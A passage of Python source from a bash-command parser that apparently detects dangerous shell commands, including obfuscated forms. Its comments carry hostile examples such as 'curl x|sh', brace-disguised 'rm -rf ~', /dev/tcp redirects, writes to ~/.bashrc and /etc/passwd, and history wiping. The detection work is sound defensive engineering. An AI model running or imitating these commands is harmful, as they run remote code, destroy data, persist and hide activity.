                for word in ([self.text(child)] if child.type == "variable_name" else self.words(child))
            ]
            self.pipelines.append((SimpleCommand(tuple(words), redirects, self.subs, background),))
        elif kind == "for_statement":
            variable = node.child_by_field_name("variable")
            values = [
                expanded for child in node.children_by_field_name("value") for expanded in self.words(child)
            ]
            name = self.text(variable) if variable is not None else ""
            if name:
                self.bind(name, values[:MAX_LOOP_VALUES] or [""])
            body = node.child_by_field_name("body")
            if body is not None:
                self.statement(body, background=background, redirects=redirects)
                self.loop_runs(name, values, body, background, redirects)
        elif kind == "ERROR":
            self.error(node, background)
        elif kind == "compound_statement" and _glued_brace(node):
            # `{rm,-rf,~}`: a `{` with no blank after it is no brace group to bash but part of a word.
            self.braces += "{"
            self.statements(node)
            self.braces = ""
        else:
            # if, while, case, { }, ( ), !, [[ ]]: every command inside may run.
            if redirects and kind in _REDIRECTED_COMPOUNDS:
                if kind == "while_statement":
                    self.read_from(node, redirects)
                start = len(self.pipelines)
                self.statements(node)
                if len(self.pipelines) > start:
                    final = self.pipelines[-1]
                    tail = final[-1].replace(redirects=final[-1].redirects + redirects)
                    self.pipelines[-1] = (*final[:-1], tail)
                    # `while read x; do ...; done < <(find /)`: the loop body reads it too.
                    for index in range(start, len(self.pipelines) - 1):
                        earlier = self.pipelines[index]
                        first = earlier[0].replace(redirects=earlier[0].redirects + redirects)
                        self.pipelines[index] = (first, *earlier[1:])
                return
            self.statements(node)

    def alias(self, node: Node, command: SimpleCommand) -> None:
        """Note the aliases a statement of the script's own defines (:attr:`Script.aliases`)."""
        parent = node.parent
        if parent is None or parent.type != "program" or self.depth or self.one_value:
            return
        if command.redirects or command.background or not _plain(node):
            return  # alias x="$P": P's value is this line's; alias x=$(...) runs at definition
        text = self.text(node)
        names = [name for name, equals, _ in (word.partition("=") for word in command.words[1:]) if equals]
        if names and len(names) == len(command.words) - 1 and all(_ALIAS_NAME.fullmatch(n) for n in names):
            empty = Script((), ())
            self.aliases.extend(Function(name, empty, text, len(self.pipelines)) for name in names)

    def loop_runs(
        self, name: str, values: list[str], body: Node, background: bool, redirects: tuple[Redirect, ...]
    ) -> None:
        """``for h in a b; do ssh $h 'curl x|sh'; done``: the body read once more for each of the
        first values alone, as each run sees it.

        The first reading gives the variable every value at once (``ssh a b 'curl x|sh'``): a
        dangerous value is seen wherever it stands, but the words shift (``b`` became the remote
        command). One value a run keeps each word in its place. Only outside another such reading
        (a loop inside a loop is read once per outer reading, not once per pair of values): the
        work is linear in the nesting.
        """
        distinct = list(dict.fromkeys(values[:MAX_LOOP_VALUES]))
        if not name or len(values) < 2 or self.one_value:
            return
        self.one_value = True
        try:
            for value in distinct[:MAX_ONE_VALUE_READINGS]:
                self.bind(name, [value])
                self.statement(body, background=background, redirects=redirects)
        finally:
            self.one_value = False
            self.bind(name, values[:MAX_LOOP_VALUES])

    def dropped_dashes(self, node: Node) -> tuple[str, ...]:
        """``cat - <<EOF``, ``kubectl apply -f - <<EOF``, ``git - 2>&1``: tree-sitter-bash drops a bare
        ``-`` written just before a redirection (it is in no node: the text between the command, or
        the redirection before, and the operator). bash passes it as an argument: it is put back."""
        dashes: list[str] = []
        previous = None
        for child in node.children:
            if child.type in _REDIRECTIONS and previous is not None:
                gap = self.source[previous.end_byte : child.start_byte].split()
                if gap and all(part == b"-" for part in gap):
                    dashes += ["-"] * len(gap)
            previous = child
        return tuple(dashes)

    def read_from(self, node: Node, redirects: tuple[Redirect, ...]) -> None:
        """``while read d; do ...; done <<< TEXT``: ``$d`` in the body is TEXT's lines."""
        condition = node.child_by_field_name("condition")
        match = _READ.match(self.text(condition)) if condition is not None else None
        lines = [line for r in redirects if r.op == "<<<" for line in r.target.splitlines() if line.strip()]
        if match is not None and lines:
            self.bind(match.group(1), lines[:MAX_LOOP_VALUES])
            self.loop_fed.add(match.group(1))  # the read in the condition: its lines, not a run-time value

    def builtin_values(self, command: SimpleCommand) -> None:
        """``printf -v x …``, ``read x <<< …``, ``set -- …``: remember what the builtin assigns
        (:mod:`.shell_values`); a value made at run time becomes a :data:`RUNTIME` placeholder."""
        if not command.words:
            return
        for found in assigned(command, self.ifs() if "IFS" in self.variables else None):
            if found.values is None and found.name in self.loop_fed:
                self.loop_fed.discard(found.name)
                continue
            if found.values is None:
                # mapfile -t a < <(ls): the array's words, read as ${a[@]} (many, as a glob is)
                shown = f"${{{found.name}[@]}}" if found.array and found.name != "@" else f"${found.name}"
                self.subs.append(Substitution(RUNTIME, shown, Script((), ())))
                values = [f"{_SUB_OPEN}{len(self.subs) - 1}{_SUB_CLOSE}"]
            else:
                values = list(found.values[:MAX_LOOP_VALUES])
            if found.name == "@":
                for index, value in enumerate(values[:9], start=1):
                    self.bind(str(index), [value])
                self.bind("*", [" ".join(values)] if found.values is not None else values)
                self.bind("@", values)
            elif found.array:
                self.arrays[found.name] = values
                self.owners[f"{found.name}[@]"] = self.subs
                self.bind(found.name, values[:1])
            else:
                self.bind(found.name, values)

    def sourced_input(self, command: SimpleCommand) -> None:
        """``source /dev/stdin <<EOF …``: the text runs in this shell, so what it assigns
        (``read v <<X …``) names what later commands run; parsed with our variables."""
        if len(command.words) < 2 or command.words[0] not in ("source", "."):
            return
        if command.static(command.words[1]) not in ("/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"):
            return
        for redirect in command.redirects:
            text = _fed_text(command, redirect)
            if text:
                self.reparse("$(", text)

    def operation(self, text: str) -> str | None:
        """``${x/a/b}``, ``${x:1:2}``, ``${x^^}``, ``${!n}``, zsh's ``${=x}`` of a variable the line
        sets: the value worked out (:func:`.shell_values.operated`), given as a variable of its own
        for :meth:`expand` to put in (and split, unquoted). A value made at run time, or an
        operation the line does not settle (``${x:$i}``), is made at run time: None when the
        variable is not set in the line (the environment's, read as before)."""
        found = expansion(text)
        if found is None or not (found.indirect or found.split or found.operator):
            return None
        name = self.namerefs.get(found.name, found.name)
        values = self.variables.get(name)
        if values is None:
            return _root_slash(found.name, found.indirect, found.operator)
        owner = self.owners.get(name)
        if owner is not None and owner is not self.subs:  # b=$(find .); f=$(basename "${b%.exe}")
            values = [self.adopt(value, owner) for value in values]
        if found.indirect:  # ${!n}: the value of the variable n names
            if any(_SUB_OPEN in v or not _NAME.fullmatch(v) for v in values):
                return self.unknowable(text, values)
            values = [w for v in values for w in self.variables.get(self.namerefs.get(v, v), [f"${v}"])]
        operator = found.operator
        if operator.startswith(":"):  # ${x:$i}, ${x:i:n}: the numbers the line set
            operator = with_known_numbers(operator, self.number)
        results: list[str] = []
        for value in values:
            if _SUB_OPEN in value:
                results.append(self.made_at_run_time(text, value))
                continue
            result = operated(value, operator)
            if result is None:
                return self.unknowable(text, values)
            results.append(result)
        own = f"agentbus_value_{next(self.operations)}_"
        self.bind(own, results[:MAX_LOOP_VALUES])
        return f"{_UNQUOTED}${{{own}}}"  # braced: a${x:1}b, the b no part of the name

    def number(self, name: str) -> str | None:
        """The one value the line gave ``name``, if it is known before running (for arithmetic)."""
        values = self.variables.get(self.namerefs.get(name, name))
        return values[0] if values is not None and len(values) == 1 and _SUB_OPEN not in values[0] else None

    def unknowable(self, text: str, values: list[str]) -> str:
        """An expansion whose value the line does not settle: made at run time, by what made its variable."""
        origins = tuple(
            o
            for v in values
            for sub in SimpleCommand((), (), self.subs).substitutions_in(v)
            for o in _origins(sub)
        )
        self.subs.append(Substitution(RUNTIME, text, Script((), ()), origins))
        return f"{_UNQUOTED}{_SUB_OPEN}{len(self.subs) - 1}{_SUB_CLOSE}"

    def made_at_run_time(self, name: str, value: str) -> str:
        """The placeholder of a variable assigned the output of code (``c=$(cat f)``): a
        :data:`RUNTIME` value, read by the rules as ``$c``, that remembers which code made it
        (:mod:`.tactics.unseen` holds running it; a few setup printers are known)."""
        subs = SimpleCommand((), (), self.subs).substitutions_in(value)
        if len(subs) == 1 and subs[0].kind == RUNTIME and _PLACEHOLDER.fullmatch(value):
            return value  # d=$c: the same value
        origins = tuple(o for sub in subs for o in _origins(sub))
        self.subs.append(Substitution(RUNTIME, f"${name}", Script((), ()), origins))
        return f"{_SUB_OPEN}{len(self.subs) - 1}{_SUB_CLOSE}"

    def bind(self, name: str, values: list[str]) -> None:
        """Give a loop variable its values, remembering whose substitutions they name."""
        self.variables[name] = values
        self.owners[name] = self.subs

    def leading_list(self, node: Node, background: bool) -> tuple[Node, tuple[Redirect, ...]]:
        """``a && b | c``: tree-sitter makes ``a && b`` the first stage; bash runs ``a``, then ``b | c``.

        The list's commands but the last run on their own; the last is the stage,
        with the redirections tree-sitter put on the list (``a && b 0<f | c``).
        """
        redirects: tuple[Redirect, ...] = ()
        while True:
            if node.type == "redirected_statement":
                body = node.child_by_field_name("body")
                if body is None or body.type != "list":
                    return node, redirects
                own = [c for c in node.children if c.type in ("file_redirect", "heredoc_redirect",
                                                                  "herestring_redirect")]  # fmt: skip
                glued = self.glued_descriptor(body, own[0]) if own else None
                found = tuple(r for c in own for r in self.redirect(c))
                if glued is not None and found:
                    found = (found[0].replace(fd=glued), *found[1:])
                redirects = found + redirects
                node = body
                continue
            if node.type != "list":
                return node, redirects
            parts = [c for c in node.children if c.type in _STATEMENTS]
            if not parts:
                return node, redirects
            for part in parts[:-1]:
                self.statement(part, background=background)
            node = parts[-1]

    def glued_descriptor(self, body: Node, redirect: Node) -> str | None:
        """``sh 0</tmp/f``: the number tree-sitter left as the last word is the redirected descriptor."""
        leaf = body
        while leaf.children:
            leaf = leaf.children[-1]
        if (
            leaf.type in ("number", "word")
            and leaf.end_byte == redirect.start_byte
            and self.text(leaf).isdigit()
            and not any(c.type == "file_descriptor" for c in redirect.children)
        ):
            self.dropped.add(leaf.start_byte)
            return self.text(leaf)
        return None

    def error(self, node: Node, background: bool) -> None:
        """What tree-sitter could not fit into the grammar: loose unquoted words are read as a command.

        The words are the span's text split at blanks (tree-sitter's pieces of a
        broken word, such as ``{rm,-rf,/}``, are not words); a span that starts
        inside a quote is text, not a command.
        """
        children = node.children
        covered = 0  # the end of the last substitution scanned: one inside it is read with it
        statements = [c.start_byte for c in children if c.type in _STATEMENTS]
        for opener in children:
            if opener.start_byte < covered:
                continue
            if opener.type == "$((":
                # `$(( (curl x | sh) ))` is no arithmetic: bash then reads `$( (...) )`, a substitution.
                covered = self.reparse_from("$(", opener.start_byte + 2)
            if not opener.is_named and opener.type in _OPENERS:
                # `a[$({echo,} x > ~/.bashrc)]=1`: the substitution's code became statements of the
                # ERROR (or was cut in pieces): its text, to the matching parenthesis, is parsed again.
                end = covered = _matching_close(self.source, opener.end_byte, opener.type)
                inside = bisect.bisect_left(statements, opener.end_byte)
                if inside < len(statements) and statements[inside] < end:
                    self.reparse_from(opener.type, opener.end_byte)
        span: list[Node] = []
        piped = -1  # the pipeline a `|` among the loose nodes feeds (`curl x | {sh,}`)
        inside = 0  # substitutions opened among the loose nodes and not closed yet
        for child in [*node.children, None]:
            if child is not None and not child.is_named:
                inside += _NESTING.get(child.type, 0) if inside or child.type in _OPENERS else 0
                if child.type == "`":
                    inside = 0 if inside > 1 else 1
            if child is not None and child.type in _SEPARATORS and not inside:
                self.loose_command(span, background)  # `{rm,-rf,~}; echo`: two commands
                span = []
                piped = len(self.pipelines) - 1 if child.type in ("|", "|&") else -1
                continue
            if (
                child is not None
                and child.type not in _STATEMENTS
                and child.type not in ("comment", "heredoc_body")
            ):
                span.append(child)
                continue
            # `x; {rm,-rf,~} && y`: a `{` glued to the statement after it is part of its first word.
            glued = ""
            while (
                span
                and child is not None
                and span[-1].type == "{"
                and span[-1].end_byte == (child.start_byte - len(glued))
            ):
                glued += "{"
                span.pop()
            start = len(self.pipelines)
            self.loose_command(span, background)
            span = []
            if child is not None:
                self.braces = glued
                self.statement(child, background=background)
                self.braces = ""
            if 0 <= piped < start < len(self.pipelines):
                self.pipelines[piped : start + 1] = [self.pipelines[piped] + self.pipelines[start]]
            piped = -1 if child is not None else piped

    def loose_command(self, span: list[Node], background: bool) -> None:
        # `( {rm,-rf,~} )`: the parentheses of a subshell are no words
        while span and span[0].type == "(":
            span = span[1:]
        while span and span[-1].type == ")" and not any(part.type in _OPENERS for part in span):
            span = span[:-1]
        if span and span[0].type not in ("string_content", "string", "raw_string", '"', "'"):
            words = self.loose_words(span)
            redirects: list[Redirect] = []
            if any(part.type in _REDIRECT_OPERATORS for part in span):
                # `>| `echo ~/.bashrc``: an operator among the loose nodes redirects to the next word.
                words, redirects = _loose_redirects(words)
            if words or redirects:
                self.pipelines.append((SimpleCommand(tuple(words), tuple(redirects), self.subs, background),))
        else:
            position = 0
            for part in span:
                if part.start_byte < position:
                    continue  # inside a substitution read below
                if part.type in ("command_substitution", "process_substitution"):
                    self.word(part)
                elif part.type in _OPENERS and part.start_byte >= self.reparsed_to:
                    # `echo "$({rm,-rf,~})"`: code inside a broken string
                    position = self.reparse_from(part.type, part.end_byte) + 1

    def loose_words(self, span: list[Node]) -> list[str]:
        """The words of nodes tree-sitter left loose: nodes with nothing between them are one word.

        Each node's value is read as in any word (quotes removed, substitutions cut out):
        ``{rm,$'-fr',$HOME}`` is an ERROR to tree-sitter (a brace group?) and
        ``rm -fr $HOME`` to bash, after quote removal and brace expansion.
        """
        words: list[str] = []
        current: list[str] = []
        position = span[0].start_byte
        for index, part in enumerate(span):
            if part.end_byte <= position:
                continue  # inside a substitution read below
            if part.type == "``" and part.start_byte < position < part.end_byte:
                # `a``b`: the first backtick closed a substitution, the second opens one
                closing = self.reparse_from("`", part.end_byte)
                current.append(f"{_SUB_OPEN}{len(self.subs) - 1}{_SUB_CLOSE}")
                position = min(closing + 1, span[-1].end_byte)
                continue
            if part.start_byte < position:  # `word 'x)]=1'`: the part after the substitution's `)`
                current.append(self.source[position : part.end_byte].decode("utf-8", "surrogatepass"))
                position = part.end_byte
                continue
            gap = self.source[position : part.start_byte].decode("utf-8", "surrogatepass")
            pieces = _BLANKS.split(_unescape_gap(gap))
            if len(pieces) > 1:  # a blank: the word so far is done
                current.append(pieces[0])
                words.append("".join(current))
                current = [pieces[-1]]
                words.extend(pieces[1:-1])
            else:
                current.append(pieces[0])
            if part.type in _OPENERS and part.start_byte >= self.reparsed_to:
                # `[[ $({rm,-rf,~}) ]]`: a substitution tree-sitter did not parse; its text is code.
                closing = self.reparse_from(part.type, part.end_byte)
                current.append(f"{_SUB_OPEN}{len(self.subs) - 1}{_SUB_CLOSE}")
                position = min(closing + 1, span[-1].end_byte)
                continue
            if part.type == "$" and index + 1 < len(span) and span[index + 1].start_byte == part.end_byte:
                position = part.end_byte  # $"rm": a translated string, its `$` no character
                continue
            current.append(self.word(part) if part.is_named else self.text(part))
            position = part.end_byte
        words.append("".join(current))
        return [
            expanded
            for word in words
            if word
            for part in expand_braces(word)
            for expanded in self.expand(part)
        ]

    def backticks(self, text: str) -> str:
        """``rm "" `a` `b```: tree-sitter-bash reads one substitution from the first backtick to
        the last; bash pairs them. Each pair's code is parsed on its own; blanks between split words."""
        pieces = _BACKTICK.split(text)
        if any(_OPERATOR_CHAR.search(piece) for piece in pieces[2:-1:2]):
            # `echo ``echo x`  >| `echo ~/.bashrc``: an operator between pairs belongs to the
            # command; the text, each pair as the $(...) it is, is judged as a command of its own.
            converted = [
                "$(" + _ESCAPED_IN_BACKTICKS.sub(r"\1", piece) + ")" if index % 2 else piece
                for index, piece in enumerate(pieces[1:-1], start=1)
            ]
            self.reparse("$(", ": " + "".join(converted))
        value: list[str] = []
        for index, piece in enumerate(pieces[1:-1], start=1):
            if index % 2:
                value.append(self.reparse("`", _ESCAPED_IN_BACKTICKS.sub(r"\1", piece)))
            else:
                value.append(_IFS if not piece or piece.isspace() else _unescape(piece))
        return "".join(value)

    def reparse_from(self, kind: str, start: int) -> int:
        """Parse again the substitution whose code starts at byte ``start``; where it ends.

        A substitution inside one already parsed again is part of it (each byte is read
        again once per nesting level, so the work stays linear)."""
        end = _matching_close(self.source, start, kind)
        self.reparse(kind, self.source[start:end].decode("utf-8", "surrogatepass"))
        self.reparsed_to = max(self.reparsed_to, end)
        return end

    def reparse(self, kind: str, text: str) -> str:
        """A substitution whose code tree-sitter misread, parsed again on its own: its placeholder."""
        if self.depth >= MAX_DEPTH:
            raise ShellSyntaxError(f"the command nests more than {MAX_DEPTH} levels deep")
        source = text.encode("utf-8", "surrogatepass")
        source += closing(source)
        self.reread.add(len(source))
        inner = _Builder(source, self.variables, self.depth + 1)
        inner.reread = self.reread
        inner.arrays, inner.owners = self.arrays, self.owners  # variables whose values name substitutions
        inner.namerefs, inner.operations = self.namerefs, self.operations
        inner.one_value = self.one_value
        root = _parse_within_budget(source).root_node
        inner.statements(root)
        inner.unread_bodies(root)
        self.functions.extend(inner.functions)
        self.subs.append(Substitution(kind, text, inner.script()))
        return f"{_SUB_OPEN}{len(self.subs) - 1}{_SUB_CLOSE}"

    def nested_statement(self, node: Node, background: bool) -> list[tuple[SimpleCommand, ...]]:
        start = len(self.pipelines)
        self.statement(node, background=background)
        added = self.pipelines[start:]
        del self.pipelines[start:]
        return added

    def looked_up(self, values: list[str]) -> list[str]:
        """``P=$(which python3 || which python)``: the variable names the program looked up (``python3``)."""
        whole = _PLACEHOLDER.fullmatch(values[0]) if len(values) == 1 else None
        found = _LOOKUP.match(self.subs[int(whole.group(1))].text) if whole else None
        return [posixpath.basename(found.group(1))] if found else []

    def assignments(self, node: Node, redirects: tuple[Redirect, ...], background: bool) -> None:
        """``NAME=value`` alone sets a shell variable: remember it for later words."""
        words: list[str] = []
        children = [node] if node.type == "variable_assignment" else node.children
        for child in children:
            if child.type == "variable_assignment":
                name_node = child.child_by_field_name("name")
                value_node = child.child_by_field_name("value")
                values = self.assigned_words(value_node) if value_node is not None else [""]
                if name_node is not None and name_node.type == "subscript":
                    self.word(name_node)  # a[$(curl x | sh)]=1: the index is expanded
                if name_node is not None:
                    name = self.text(name_node)
                    values = [self.evaluated(v) for v in values]  # x=$(printf 'rm -rf ~')
                    if any(w in ("local", "declare", "typeset") for w in words) and any(
                        w.startswith("-") and "n" in w for w in words
                    ):
                        # declare -n r=x: r is another name of x, for reading and assigning.
                        target = values[0] if values else ""
                        if _NAME.fullmatch(target) and target != name:
                            self.namerefs[name] = target
                        words.append(f"{name}={target}")
                        continue
                    name = self.namerefs.get(name, name)
                    static = [v for v in values if _SUB_OPEN not in v] or self.looked_up(values)
                    if any(c.type == "+=" for c in child.children):  # c=rm; c+=' -rf ~'
                        static = [old + new for old in self.variables.get(name, [""]) for new in static]
                    self.variables[name] = static[:MAX_LOOP_VALUES] if static else [f"${name}"]
                    self.owners.pop(name, None)
                    if not static and values and _SUB_OPEN in values[0]:
                        if _path_shaped(values[0]):
                            # h=/home/$u/.bash_history; : > $h: the path keeps its shape
                            self.bind(name, values[:MAX_LOOP_VALUES])
                        else:
                            self.bind(name, [self.made_at_run_time(name, values[0])])  # c=$(cat f); $c
                    if value_node is not None and value_node.type == "array":
                        # cmd=(rm -rf ~); "${cmd[@]}": the elements are the words of the command.
                        elements = [w for c in value_node.named_children for w in self.words(c)]
                        self.arrays[name] = elements[:MAX_LOOP_VALUES]
                        self.owners[f"{name}[@]"] = self.subs
                        self.variables[name] = elements[:1]  # $cmd in bash: the first element
                        self.owners[name] = self.subs
                    words.append(f"{name}={values[0] if values else ''}")
            elif child.type == "variable_assignments":
                self.assignments(child, (), background)
            elif child.type in ("export", "local", "declare", "readonly", "typeset"):
                words.append(child.type)
            elif child.is_named:
                words.extend(self.words(child))
        # export F=x, local x=$(...): a command that runs, with substitutions that run; and
        # HISTFILE=/dev/null alone, which changes the shell itself.
        self.pipelines.append((SimpleCommand(tuple(words), redirects, self.subs, background),))

    def command(self, node: Node, redirects: tuple[Redirect, ...], background: bool) -> SimpleCommand:
        words: list[str] = []
        own: list[Redirect] = []
        previous: Node | None = None
        pending_redirect = ""
        outer, self.trailing = self.trailing, []
        group: list[Node] = []  # word nodes with nothing between them: one word to bash
        previous_end: int | None = None
        for child in node.children:
            kind = child.type
            if group and (kind not in _WORD_LIKE or child.start_byte != group[-1].end_byte):
                words.extend(self.group_words(group))
                group = []
            if (
                (words or own)
                and previous_end is not None
                and b"\n" in self.source[previous_end : child.start_byte]
            ):
                # `a=b c=d<newline>{ rm -rf ~; }`, `echo ==<newline>{rm,-rf,~}`: tree-sitter carries
                # the command over the newline onto the next line's words; bash ends it there.
                self.pipelines.append((SimpleCommand(tuple(words), tuple(own), self.subs, background),))
                words, own = [], []
            previous_end = child.end_byte
            if (
                kind == "file_redirect"
                and previous is not None
                and previous.end_byte == child.start_byte
                and previous.type in ("word", "number")
                and self.text(previous).isdigit()
                and words
                and child.child_by_field_name("descriptor") is None
                and not any(c.type == "file_descriptor" for c in child.children)
            ):
                # sh 0</tmp/f: tree-sitter reads the 0 as a word; bash as the redirected descriptor.
                fd = words.pop()
                own.extend(r.replace(fd=fd) for r in self.redirect(child))
                previous = child
                continue
            previous = child
            if child.start_byte in self.dropped:
                continue
            if pending_redirect and child.is_named and kind != "ERROR":
                # `echo == > /etc/profile`: after a test operator tree-sitter gives up on the
                # redirect (an ERROR holding `>`); bash writes the file, so it is a redirect.
                own.extend(Redirect(pending_redirect, target) for target in self.words(child)[:1])
                pending_redirect = ""
                continue
            if kind in ("subshell", "compound_statement"):
                # `coproc ( curl … | sh )`: tree-sitter-bash knows no coproc, and bash runs the body.
                self.statement(child, background=background)
                continue
            if kind in _TEST_OPERATORS:
                words.append(self.text(child))  # outside [[ ]], `==` and `=~` are plain words
                continue
            if kind == "ERROR" and self.text(child).strip() in _REDIRECT_OPERATORS:
                pending_redirect = self.text(child).strip()
                continue
            if kind == "ERROR" and self.text(child).strip() in _SEPARATORS:
                # `echo == && curl x | sh`: after a test operator tree-sitter keeps reading one
                # command; bash ends it at the operator and starts the next.
                words.extend(self.group_words(group))
                group = []
                self.pipelines.append((SimpleCommand(tuple(words), tuple(own), self.subs, background),))
                words, own = [], []
                continue
            if kind == "variable_assignment":
                name_node = child.child_by_field_name("name")
                value_node = child.child_by_field_name("value")
                values = self.assigned_words(value_node) if value_node is not None else []
                value = values[0] if values else ""  # `f=$IFS cmd`: splitting can leave no word
                if name_node is not None and name_node.type == "subscript":
                    self.word(name_node)
                words.append(f"{self.text(name_node) if name_node else ''}={value}")
            elif kind in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
                own.extend(self.redirect(child))
            elif kind in ("word", "command_name") and _split_word(child, self.text(child)):
                # `time -p { {rm,-fr,~}; }`: tree-sitter made `{ {` one word; bash splits it at the blank.
                *whole, last = _UNESCAPED_BLANK.split(self.text(child))
                words.extend(_unescape(part) for part in whole if part)
                following = child.next_sibling
                if following is not None and following.start_byte == child.end_byte:
                    self.braces = _unescape(last)  # glued to the next word node
                elif last:
                    words.append(_unescape(last))
            elif kind == "command_name" or (child.is_named and kind != "comment") or kind == "$":
                group.append(child)  # `-r$""`: tree-sitter's `$` token holds the word's start
        words.extend(self.group_words(group))
        first = next((c for c in node.children if c.type == "command_name"), None)
        if first is not None and first.type == "command_name" and self.text(first).split(" ")[0] in _RESERVED:
            # `! until ! curl x | sh; do ...`: tree-sitter read a reserved word as a command's name;
            # to bash it opens a compound command, whose first command is what follows. And
            # `coproc c { curl x | sh; }`: tree-sitter-bash knows no coproc (a command named
            # coproc, the pipeline cut at the `|`); bash runs the pipeline inside.
            timed = False
            while words and (words[0] in _RESERVED or (words[0] in ("-p", "--") and timed)):
                timed = words.pop(0) == "time"
                if not timed and words[1:2] == ["{"] and words[0] not in _RESERVED:
                    words.pop(0)  # coproc NAME {, function NAME {: the body is judged as if it ran
        words.extend(self.trailing)
        self.trailing = outer
        # The list of substitutions is the script's: it grows while the walk goes on.
        return SimpleCommand(tuple(words), tuple(own) + redirects, self.subs, background)

    def redirect(self, node: Node) -> list[Redirect]:
        kind = node.type
        fd, self.glued_fd = self.glued_fd, ""
        op = ""
        target = ""
        inner_redirects: list[Redirect] = []
        more_targets: list[str] = []
        document = self.here_document(node) if kind == "heredoc_redirect" else None
        if document is not None:
            target = self.body(document, next((c for c in node.children if c.type == "heredoc_body"), None))
        line_end = self.rest_of_line(node, document) if document is not None else None
        for child in node.children:
            if document is not None and child.start_byte >= document.start:
                continue  # the body (tree-sitter may have read part of it as words), its delimiter
            if line_end is not None and child.type != "heredoc_start" and child.start_byte < line_end:
                continue  # read by rest_of_line
            if child.type == "file_descriptor":
                fd = self.text(child)
            elif not child.is_named:
                op = op or child.type
            elif child.type == "ERROR" and op == "<" and self.text(child) == ">":
                op = "<>"  # 1<>FILE opens FILE for reading and writing (tree-sitter: < then an error)
            elif child.type == "ERROR" and not op and self.text(child) == "<":
                op = "<>"  # 3<>/dev/tcp/h/$p: tree-sitter reads an error `<`, then `>`
            elif child.type in ("file_redirect", "herestring_redirect") and kind == "heredoc_redirect":
                # cat <<EOF > /etc/passwd: the grammar nests the redirections after the delimiter.
                inner_redirects.extend(self.redirect(child))
            elif child.type in ("heredoc_start", "heredoc_end") or child.type in _STATEMENTS:
                continue  # a statement after the here-document's start: the caller reads it
            elif child.type == "heredoc_body":
                inner = self.nested()
                for part in child.children:
                    if part.type in ("command_substitution", "expansion", "simple_expansion"):
                        inner.word(part)
                self.subs.append(Substitution("<<", self.text(child), inner.script()))
                target = f"{_SUB_OPEN}{len(self.subs) - 1}{_SUB_CLOSE}"
            elif child.type != "ERROR" and not target:
                values = self.words(child)
                target = values[0] if values else ""
                # for p in 80 443; do echo >/dev/tcp/h/$p; done: each value the target may take, each a
                # redirection of its own (bash runs no command whose target is several words).
                more_targets = values[1:]
            elif child.is_named and _glued_descriptor(node, child, self.text(child)):
                self.glued_fd = self.text(child)  # `>&/dev/tcp/h/p 0>&1`: the 0 is the next one's descriptor
            elif child.type != "ERROR" and child.is_named:
                # rm >/dev/null -rf /: tree-sitter counts the words after the target as more targets;
                # bash passes them to the command.
                self.trailing.extend(self.words(child))
        if kind == "heredoc_redirect":
            op = "<<"
            inner_redirects.extend(self.rest_redirects)
            self.rest_redirects = []
            if not target:
                self.subs.append(Substitution("<<", "", Script((), ())))
                target = f"{_SUB_OPEN}{len(self.subs) - 1}{_SUB_CLOSE}"
        elif kind == "herestring_redirect":
            op = "<<<"
        more = [Redirect(op or ">", other, fd) for other in more_targets]
        return [Redirect(op or ">", target, fd), *more, *inner_redirects]

    def here_document(self, node: Node) -> HereDocument | None:
        """The body bash reads for a ``heredoc_redirect`` node (None where the scan found none)."""
        if not self.heredocs:
            return None
        # The operator lies between the node's start and its delimiter's end (`0<<EOF` is one token).
        end = next((c.end_byte for c in node.children if c.type == "heredoc_start"), node.start_byte + 3)
        operators = self.operators or sorted(self.heredocs)
        self.operators = operators
        index = bisect.bisect_left(operators, node.start_byte)
        if index == len(operators) or operators[index] >= end:
            return None
        document = self.heredocs[operators[index]]
        self.bodies_read.add(document.operator)
        if node.end_byte > document.after:
            # tree-sitter read lines after the delimiter line into the here-document: bash runs them.
            self.reparse("$(", self.source[document.after : node.end_byte].decode("utf-8", "surrogatepass"))
        return document

    def rest_of_line(self, node: Node, document: HereDocument) -> int | None:
        """``bash <<EOF echo x >> ~/.bashrc``: tree-sitter misreads words then a redirection after
        the delimiter. Where it found an error there, the rest of the line is parsed on its own
        (as the arguments and redirections of a command); where that rest ends, else None."""
        start = next((c.end_byte for c in node.children if c.type == "heredoc_start"), None)
        if start is None:
            return None
        end = min(document.start, node.end_byte)
        if not any(c.has_error for c in node.children if start <= c.start_byte < end):
            return None
        self.reparse("$(", ": " + self.source[start:end].decode("utf-8", "surrogatepass"))
        script = self.subs[-1].script
        if script.pipelines and script.pipelines[0]:
            first = script.pipelines[0][0]
            owner = list(first.substitutions)
            self.trailing.extend(self.adopt(word, owner) for word in first.words[1:])
            self.rest_redirects = [r.replace(target=self.adopt(r.target, owner)) for r in first.redirects]
        return end

    def body(self, document: HereDocument, read: Node | None) -> str:
        """A here-document as a :class:`Substitution`: its text, and the substitutions its
        expansion runs (none when the delimiter is quoted); its placeholder. Where tree-sitter
        read the same body (``read``), its substitutions are tree-sitter's; else each is parsed
        again from the text."""
        inner = self.nested()
        special = _BODY_SPECIAL
        if read is not None and (read.start_byte, read.end_byte) == (document.start, document.end):
            for part in read.children:
                if part.type in ("command_substitution", "expansion", "simple_expansion"):
                    inner.word(part)
            special = _BODY_BACKTICK  # which tree-sitter pairs first to last, or not at all
        if not document.quoted:
            index = document.start
            while (found := special.search(self.source, index, document.end)) is not None:
                at = found.start()
                if found.group() == b"\\":
                    index = at + 2  # \$, \`, \\: escaped
                elif found.group() == b"`":
                    index = inner.reparse_from("`", at + 1) + 1
                else:
                    index = inner.reparse_from("$(", at + 2) + 1
        self.subs.append(Substitution("<<", document.text(self.source), inner.script()))
        self.functions.extend(inner.functions)
        return f"{_SUB_OPEN}{len(self.subs) - 1}{_SUB_CLOSE}"

    def unread_bodies(self, root: Node) -> None:
        """Bodies tree-sitter tied to no redirection (or any, in a text with a syntax error
        outside the bodies) are judged as code: where bash's reading went is not known
        (``x=(`` then ``bash <<EOF`` is a syntax error after which bash runs the body's lines)."""
        if not self.heredocs:
            return
        read = [self.heredocs[operator] for operator in self.bodies_read if operator in self.heredocs]
        malformed = root.has_error and any(
            not any(body.start <= error.start_byte < max(body.end, body.start + 1) for body in read)
            for error in _errors(root)
        )
        for document in self.heredocs.values():
            if malformed or document.operator not in self.bodies_read:
                self.reparse("$(", document.text(self.source))

    # words

    def group_words(self, nodes: list[Node]) -> list[str]:
        """The words of word nodes that touch (``{`a`,`b`}``, which tree-sitter splits): one value."""
        braces, self.braces = self.braces, ""
        if len(nodes) < 2 and not braces:
            return [word for node in nodes for word in self.words(node)]
        if not nodes:
            return [braces]  # the end of a word tree-sitter split at a blank (`{ {`), if nothing follows
        masking, self.masking = self.masking, True
